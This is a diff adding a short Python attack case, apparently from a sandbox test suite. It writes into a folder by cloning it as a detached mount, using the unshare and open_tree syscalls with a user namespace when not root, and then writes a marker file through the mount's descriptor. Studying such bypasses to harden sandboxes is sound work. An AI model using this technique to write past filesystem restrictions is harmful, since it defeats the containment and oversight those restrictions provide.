@@ -1,0 +1,14 @@
+"""A detached mount."""
+import os
+
+from attack import AT_FDCWD, CHANGED, syscall
+
+OPEN_TREE, UNSHARE = 428, 272
+CLONE, NEW_MOUNTS, NEW_USER = 1, 0x00020000, 0x10000000
+
+
+def write(folder):
+    """Who is not root is in a user namespace of its own."""
+    syscall(UNSHARE, NEW_MOUNTS | (NEW_USER if os.getuid() else 0))
+    tree = syscall(OPEN_TREE, AT_FDCWD, folder.encode(), CLONE)
+    os.write(os.open("p", os.O_WRONLY, dir_fd=tree), CHANGED)
